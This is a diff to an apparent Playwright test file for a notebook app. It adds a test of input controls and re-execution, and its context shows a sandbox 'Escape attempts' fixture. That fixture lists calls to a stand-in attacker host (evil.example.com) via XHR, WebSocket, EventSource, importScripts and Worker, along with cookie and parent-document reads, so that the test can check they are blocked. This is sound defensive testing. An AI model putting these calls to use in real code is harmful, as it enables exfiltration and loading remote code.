@@ -132,6 +132,71 @@ ${fence}
   });
 });
 
+const CONTROLS = `---
+notebook: 1
+title: Controls
+---
+
+${fence}sql regions
+SELECT * FROM (VALUES ('North'), ('South'), ('East')) t(region)
+${fence}
+
+${fence}input region
+{ "type": "select", "label": "Region", "options_from": "regions", "value": "North" }
+${fence}
+
+${fence}input picked
+{ "type": "multiselect", "options": ["a", "b", "c"], "value": ["a"] }
+${fence}
+
+${fence}input count
+{ "type": "number", "min": 0, "max": 10, "value": 3 }
+${fence}
+
+${fence}input period
+{ "type": "daterange", "min": "2024-01-01", "max": "2024-12-31", "value": ["2024-02-01", "2024-03-01"] }
+${fence}
+
+${fence}input who
+{ "type": "text", "value": "Ada" }
+${fence}
+
+${fence}input on
+{ "type": "checkbox", "label": "Include returns", "value": false }
+${fence}
+
+${fence}ts summary
+return [region, picked.join("+"), count, period.join(".."), who, on].join(" | ");
+${fence}
+`;
+
+describe("every kind of input", () => {
+  it("renders as a real control, and changing each one re-runs the cell that reads it", async () => {
+    const ob = await app.open();
+    const { page } = ob;
+    await openTrusted(ob, "controls.md", CONTROLS);
+    const summary = () => cellText(page, "summary", "value");
+    await expect.poll(summary, { timeout: ENGINE_TIMEOUT }).toBe("North | a | 3 | 2024-02-01..2024-03-01 | Ada | false");
+    // Options from a sql cell.
+    expect(await page.locator('[data-cell="region"] select option').allTextContents()).toEqual(["North", "South", "East"]);
+    await page.screenshot({ path: "/tmp/clientbook-controls.png", fullPage: true });
+
+    await page.locator('[data-cell="region"] select').selectOption({ label: "East" });
+    await expect.poll(summary, { timeout: 10_000 }).toMatch(/^East \| a \|/);
+    await page.locator('[data-cell="picked"] label', { hasText: "c" }).locator("input").check();
+    await expect.poll(summary, { timeout: 10_000 }).toMatch(/^East \| a\+c \|/);
+    await page.locator('[data-cell="count"] input[type="number"]').fill("7");
+    await expect.poll(summary, { timeout: 10_000 }).toMatch(/\| 7 \|/);
+    await page.locator('[data-cell="period"] input[type="date"]').nth(1).fill("2024-06-30");
+    await expect.poll(summary, { timeout: 10_000 }).toMatch(/2024-02-01\.\.2024-06-30/);
+    await page.locator('[data-cell="who"] input[type="text"]').fill("Grace");
+    await expect.poll(summary, { timeout: 10_000 }).toMatch(/\| Grace \|/);
+    await page.locator('[data-cell="on"] input[type="checkbox"]').check();
+    await expect.poll(summary, { timeout: 10_000 }).toBe("East | a+c | 7 | 2024-02-01..2024-06-30 | Grace | true");
+    await page.screenshot({ path: "/tmp/clientbook-controls-changed.png", fullPage: true });
+  });
+});
+
 const ESCAPE = `---
 notebook: 1
 title: Escape attempts
@@ -143,7 +208,7 @@ const attempts: Record<string, () => unknown> = {
   xhr: () => { const x = new XMLHttpRequest(); x.open("GET", "https://evil.example.com/xhr"); x.send(); },
   websocket: () => new WebSocket("wss://evil.example.com/ws"),
   eventsource: () => new EventSource("https://evil.example.com/es"),
-  importScripts: () => (self as any).importScripts("https://evil.example.com/x.js"),
+  "importScripts": () => (self as any).importScripts("https://evil.example.com/x.js"),
   worker: () => new Worker("https://evil.example.com/w.js"),
   document: () => (globalThis as any).document.cookie,
   parent: () => (globalThis as any).parent.document.body.innerHTML,
